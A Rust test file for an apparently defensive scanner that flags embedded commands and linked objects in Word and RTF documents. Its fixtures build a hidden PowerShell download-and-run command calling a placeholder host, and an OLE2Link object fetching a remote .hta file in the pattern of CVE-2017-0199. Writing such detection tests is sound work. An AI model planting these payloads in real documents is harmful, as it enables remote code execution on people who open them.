//! What is in the place of an object of a document: a command that a click starts, or a link to where the object is.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use support::slides::compound;
use support::{has, names, run, told};

#[test]
fn a_command_in_place_of_a_file() {
    let report = run("a.doc", include_bytes!("documents/command.doc"));
    assert_eq!(told(&report), [("SHORTCUT_COMMAND", r"calc.exe: C:\Windows\System32\calc.exe")]);
    let object = b"\x02\0invoice.pdf\0C:\\a.ico\0\0\0\x01\0\0\0powershell -w hidden iex (iwr http://a.example/x)\0";
    let length = (object.len() as u32).to_le_bytes();
    let report = run("a.doc", &compound(&[("ObjectPool/_1/\u{1}Ole10Native", &[&length[..], object].concat())]));
    assert!(has(&report, "SHORTCUT_COMMAND") && has(&report, "COMMAND_LOADS"), "{:?}", told(&report));
    let hex = |octets: &[u8]| data_encoding::HEXLOWER.encode(octets);
    let in_text = [&b"\x01\x05\0\0\x02\0\0\0\x08\0\0\0Package\0\0\0\0\0\0\0\0\0"[..], &length, object].concat();
    let report = run("a.rtf", format!("{{\\rtf1{{\\object{{\\*\\objdata {}}}}}}}", hex(&in_text)).as_bytes());
    assert_eq!(names(&report)[..2], ["EMBEDDED_OBJECT", "SHORTCUT_COMMAND"], "{:?}", told(&report));
}

#[test]
fn objects_that_are_elsewhere() {
    let letters: Vec<u8> = "http://a.example/x.hta\0".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let class = b"\xe0\xc9\xea\x79\xf9\xba\xce\x11\x8c\x82\x00\xaa\x00\x4b\xa9\x0b";
    let link = [&b"\x01\0\0\x02\x01\0\0\0"[..], &[0; 12], class, &(letters.len() as u32).to_le_bytes(), &letters].concat();
    let report = run("a.doc", &compound(&[("ObjectPool/_1/\u{1}Ole", &link)]));
    assert_eq!(told(&report), [("EXTERNAL_TARGET", "linked object: http://a.example/x.hta")]);
    // As a text brings it, which was CVE-2017-0199.
    let object = compound(&[("\u{1}Ole", &link)]);
    let head = b"\x01\x05\0\0\x02\0\0\0\x09\0\0\0OLE2Link\0\0\0\0\0\0\0\0\0";
    let octets = [&head[..], &(object.len() as u32).to_le_bytes(), &object].concat();
    let report = run("a.rtf", format!("{{\\rtf1{{\\object{{\\*\\objdata {}}}}}}}", data_encoding::HEXLOWER.encode(&octets)).as_bytes());
    assert!(has(&report, "EXTERNAL_TARGET"), "{:?}", told(&report));
}
